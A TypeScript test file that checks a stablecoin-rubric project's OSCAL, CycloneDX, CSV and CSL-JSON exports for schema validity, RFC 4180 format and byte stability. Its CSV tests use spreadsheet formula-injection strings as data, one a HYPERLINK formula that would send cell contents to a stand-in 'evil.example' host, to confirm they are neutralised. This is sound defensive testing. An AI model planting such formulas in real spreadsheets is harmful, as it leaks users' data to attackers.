/**
 * Exports of the rubric: the OSCAL catalog validates against NIST's OSCAL
 * 1.1.2 JSON Schema (test/fixtures/oscal) with zero errors, for the current
 * data and every frozen release; so does the CycloneDX document against
 * CycloneDX's 1.6 JSON Schema, as @cyclonedx/cyclonedx-library ships it
 * (res/schema, copied there from CycloneDX/specification); the CSV checklist is RFC 4180 with stable
 * columns and opens in LibreOffice with the same cells; every export is the
 * same bytes twice.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import type { Rubric } from '@usd1-milestones/core';
import {
  checklistCsv,
  csvField,
  csvText,
  exportFormats,
  exportRubric,
  oscalCatalog,
} from '@usd1-milestones/core/export';
import { loadReleases, releaseDate, releaseTranslationChanges } from '@usd1-milestones/core/loader';
import { Ajv } from 'ajv';
import addFormats from 'ajv-formats';
import { afterAll, describe, expect, it } from 'vitest';
import { openInCalc, requireLibreOfficeInCi, soffice } from '../../../scripts/libreoffice.js';

const packageDir = join(import.meta.dirname, '..');
const releasesDir = join(packageDir, 'releases');
const current = JSON.parse(readFileSync(join(packageDir, 'rubric.json'), 'utf8')) as Rubric;
const releases = loadReleases(releasesDir);
const schema = JSON.parse(
  readFileSync(join(import.meta.dirname, 'fixtures/oscal/oscal-1.1.2-complete.schema.json'), 'utf8'),
);

const ajv = new Ajv({ strict: false, allErrors: true });
addFormats.default(ajv);
const validate = ajv.compile(schema);
const errorsOf = (document: unknown) =>
  validate(document) ? [] : (validate.errors ?? []).map((e) => `${e.instancePath} ${e.message}`);

/** A tiny CSV reader for the tests (RFC 4180: quoted fields, doubled quotes, CRLF). */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  if (field !== '' || row.length > 0) rows.push([...row, field]);
  return rows;
}

/** CycloneDX's schema for 1.6 and the two it refers to, as the library ships the specification's files. */
const cyclonedxSchemas = join(
  dirname(createRequire(import.meta.url).resolve('@cyclonedx/cyclonedx-library/package.json')),
  'res/schema',
);
const cyclonedxSchema = (file: string) => JSON.parse(readFileSync(join(cyclonedxSchemas, file), 'utf8'));
const cyclonedxAjv = new Ajv({ strict: false, allErrors: true });
addFormats.default(cyclonedxAjv);
// The 1.6 schema refers to these two by their file names.
for (const file of ['spdx.SNAPSHOT.schema.json', 'jsf-0.82.SNAPSHOT.schema.json'])
  cyclonedxAjv.addSchema(cyclonedxSchema(file), `http://cyclonedx.org/schema/${file}`);
const validateCyclonedx = cyclonedxAjv.compile(cyclonedxSchema('bom-1.6.SNAPSHOT.schema.json'));
const cyclonedxErrors = (document: unknown) =>
  validateCyclonedx(document) ? [] : (validateCyclonedx.errors ?? []).map((e) => `${e.instancePath} ${e.message}`);

describe('the CycloneDX standard', () => {
  for (const [label, rubric] of [
    ['the current data', current] as const,
    ...releases.map((r) => [`release ${r.version}`, r] as const),
  ]) {
    it(`of ${label} validates against CycloneDX's 1.6 schema with zero errors`, () => {
      const document = JSON.parse(exportRubric(rubric, 'cyclonedx', releaseDate(releasesDir, rubric.version)));
      expect(cyclonedxErrors(document)).toEqual([]);
      const criteria = rubric.milestones.reduce((n, m) => n + m.criteria.length, 0);
      expect(document.definitions.standards[0].requirements).toHaveLength(rubric.milestones.length + criteria);
    });
  }

  it('fails the schema when a requirement is malformed (the check can fail)', () => {
    const document = JSON.parse(exportRubric(current, 'cyclonedx', releaseDate(releasesDir, current.version)));
    document.definitions.standards[0].requirements[0].parent = 42;
    document.serialNumber = 'not-a-urn';
    expect(cyclonedxErrors(document)).toEqual([
      '/serialNumber must match pattern "^urn:uuid:[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$"',
      '/definitions/standards/0/requirements/0/parent must be string',
    ]);
  });
});

describe('the OSCAL catalog', () => {
  for (const [label, rubric] of [
    ['the current data', current] as const,
    ...releases.map((r) => [`release ${r.version}`, r] as const),
  ]) {
    it(`of ${label} validates against NIST's OSCAL 1.1.2 schema with zero errors`, () => {
      const document = oscalCatalog(rubric, releaseDate(releasesDir, rubric.version));
      expect(errorsOf(document)).toEqual([]);
      expect(document.catalog.controls).toHaveLength(rubric.milestones.length);
    });
  }

  it('fails validation when an id breaks the token pattern, so the check above can fail', () => {
    const document = structuredClone(oscalCatalog(current, releaseDate(releasesDir, current.version)));
    const [first] = document.catalog.controls as { id: string }[];
    if (first) first.id = '1-starts-with-a-digit';
    expect(errorsOf(document).length).toBeGreaterThan(0);
  });

  it('gives a milestone as a control: criteria as statement items, guidance, props, crosswalks and source links', () => {
    const document = oscalCatalog(current, '2026-11-25T16:31:02Z');
    const control = (document.catalog.controls as Record<string, unknown>[]).find(
      (c) => c.id === 'reserve-policy',
    ) as Record<string, unknown>;
    const m = current.milestones.find((x) => x.id === 'reserve-policy');
    if (!m) throw new Error('the rubric has no reserve-policy milestone');
    expect(control.title).toBe(m.title);
    expect(control.class).toBe('milestone');
    const [statement, guidance] = control.parts as {
      name: string;
      prose?: string;
      parts?: { id: string; prose: string }[];
    }[];
    expect(statement?.name).toBe('statement');
    expect(statement?.parts?.map((p) => [p.id, p.prose])).toEqual(
      m.criteria.map((c) => [`reserve-policy_smt.${c.id.split('.')[1]}`, c.text]),
    );
    expect([guidance?.name, guidance?.prose]).toEqual(['guidance', m.summary]);
    const props = control.props as { name: string; value: string; class?: string; remarks?: string }[];
    expect(props.slice(0, 2)).toEqual([
      { name: 'label', value: '5' },
      { name: 'sort-id', value: '05' },
    ]);
    expect(props.find((p) => p.name === 'bucket')?.value).toBe('reserves-custody');
    expect(props.filter((p) => p.name === 'crosswalk').map((p) => [p.value, p.class, p.remarks])).toEqual(
      m.mappings.map((x) => [x.target, x.relationship, x.rationale]),
    );
    expect((control.links as { href: string }[]).length).toBe(m.sources.length);
    // The rubric's own link schemes become their text; citations stay.
    const body = (guidance as { parts?: { prose: string }[] }).parts?.[0]?.prose ?? '';
    expect(body).not.toMatch(/\]\((glossary|milestone|framework):/);
    expect(body).toContain('Reserves are a liquidity plan');
    expect(body).toMatch(/\[@[a-z0-9-]+\]/);
  });

  it('is the same bytes every time', () => {
    const date = releaseDate(releasesDir, current.version);
    expect(exportRubric(current, 'oscal-catalog', date)).toBe(exportRubric(current, 'oscal-catalog', date));
    expect(date).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$/);
  });
});

describe('the CSV checklist', () => {
  const csv = checklistCsv(current);
  const rows = readCsv(csv);

  it('has a header, a row per milestone and per criterion, and CRLF line ends', () => {
    expect(rows[0]).toEqual([
      'rubric_version',
      'milestone_number',
      'milestone_id',
      'milestone_title',
      'bucket',
      'stage',
      'criterion_id',
      'criterion_text',
      'sources',
      'status',
      'evidence_url',
      'evidence_kind',
      'evidence_cadence',
      'as_of',
      'note',
      'arrangement',
      'assessor',
      'assessed_on',
      'hypothetical',
    ]);
    const criteria = current.milestones.reduce((n, m) => n + m.criteria.length, 0);
    expect(rows).toHaveLength(1 + current.milestones.length + criteria);
    expect(rows.every((r) => r.length === 19)).toBe(true);
    expect(csv.split('\r\n').at(-1)).toBe('');
    expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\r\n](?=[^"]*(?:"[^"]*"[^"]*)*$)/);
    const [first, second] = [rows[1], rows[2]];
    expect(first?.slice(0, 9)).toEqual([
      current.version,
      '1',
      'redemption-promise',
      current.milestones[0]?.title,
      'Promise clarity',
      'Exploration',
      '',
      '',
      '',
    ]);
    expect(second?.slice(6, 8)).toEqual([
      current.milestones[0]?.criteria[0]?.id,
      current.milestones[0]?.criteria[0]?.text,
    ]);
  });

  it('quotes fields with commas, quotes and line breaks (RFC 4180), and starts no field like a formula', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a, b')).toBe('"a, b"');
    expect(csvField('say "yes"')).toBe('"say ""yes"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it("writes text a spreadsheet would run as a formula with a leading ', and reads it back as it was (OWASP)", () => {
    const texts = ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', "'=quoted", "''+twice", "'plain", 'a=b', ''];
    expect(texts.map(csvField)).toEqual([
      "'=1+1",
      "'+1",
      "'-1",
      "'@SUM(A1)",
      "'\tx",
      '"\'\rx"',
      "''=quoted",
      "'''+twice",
      "'plain",
      'a=b',
      '',
    ]);
    expect(texts.map((t) => csvText(csvField(t).replace(/^"|"$/g, '')))).toEqual(texts);
    // Rubric text is written the same way: a title that starts like a formula stays text.
    const hostile = structuredClone(current) as unknown as { milestones: { title: string }[] };
    (hostile.milestones[0] as { title: string }).title = '=HYPERLINK("http://evil.example/","Click")';
    expect(checklistCsv(hostile as unknown as Rubric)).toContain('"\'=HYPERLINK(""http://evil.example/"",""Click"")"');
  });

  const work = mkdtempSync(join(tmpdir(), 'usd1-csv-'));
  afterAll(() => rmSync(work, { recursive: true, force: true }));
  requireLibreOfficeInCi();

  it.skipIf(!soffice)('opens in LibreOffice Calc as text, never a formula, with every cell as written', () => {
    const hostile = structuredClone(current) as unknown as { milestones: { title: string }[] };
    (hostile.milestones[0] as { title: string }).title = '=HYPERLINK("http://evil.example/?d="&A2,"Click")';
    writeFileSync(join(work, 'hostile.csv'), checklistCsv(hostile as unknown as Rubric));
    const opened = openInCalc(join(work, 'hostile.csv'), work);
    expect(opened.spreadsheet).not.toContain('table:formula');
    expect(readCsv(opened.csv)[1]?.[3]).toBe(`'=HYPERLINK("http://evil.example/?d="&A2,"Click")`);
  });

  it.skipIf(!soffice)('opens in LibreOffice Calc with every cell as written, UTF-8 included', () => {
    writeFileSync(join(work, 'checklist.csv'), csv);
    const opened = openInCalc(join(work, 'checklist.csv'), work);
    expect(opened.spreadsheet).not.toContain('table:formula');
    const back = readCsv(opened.csv);
    expect(back).toEqual(rows);
  });
});

describe('the CSL-JSON bibliography', () => {
  it('is every source with its id, CSL fields only (no seed number), and its verified URL and date', () => {
    const items = JSON.parse(exportRubric(current, 'csl-json', '2026-01-01T00:00:00Z')) as Record<string, unknown>[];
    expect(items.map((i) => i.id)).toEqual(current.sources.map((s) => s.id));
    expect(items.filter((i) => 'number' in i).map((i) => i.id)).toEqual([]);
    expect(items.find((i) => i.id === 'mica-2023')).toEqual({
      id: 'mica-2023',
      type: 'legislation',
      author: [{ literal: 'European Union' }],
      title: 'Regulation (EU) 2023/1114 on markets in crypto-assets',
      source: 'EUR-Lex',
      'container-title': 'Official Journal of the European Union, L 150, 9.6.2023, p. 40-205',
      issued: { 'date-parts': [[2023, 5, 31]] },
      URL: 'https://eur-lex.europa.eu/legal-content/EN/TXT/?uri=celex%3A32023R1114',
    });
    const allowed = new Set([
      'id',
      'type',
      'author',
      'publisher',
      'title',
      'container-title',
      'collection-title',
      'collection-number',
      'source',
      'issued',
      'URL',
    ]);
    for (const item of items) expect(Object.keys(item).filter((k) => !allowed.has(k))).toEqual([]);
  });
});

describe('the exports shipped per release', () => {
  it('are, for every release and every registered per-release format, the committed file exports/<version>/<file>', () => {
    const perRelease = exportFormats.filter((format) => format.perRelease);
    expect(perRelease.map((f) => f.id)).toContain('oscal-catalog');
    expect(releases.length).toBeGreaterThan(3);
    for (const [i, release] of releases.entries())
      for (const format of perRelease)
        expect({
          file: `exports/${release.version}/${format.fileName}`,
          upToDate:
            readFileSync(join(packageDir, 'exports', release.version, format.fileName), 'utf8') ===
            exportRubric(release, format.id, releaseDate(releasesDir, release.version), {
              previous: releases[i - 1] ?? null,
              translations: releaseTranslationChanges(releasesDir, release.version, releases[i - 1]?.version),
            }),
        }).toEqual({ file: `exports/${release.version}/${format.fileName}`, upToDate: true });
  });
});
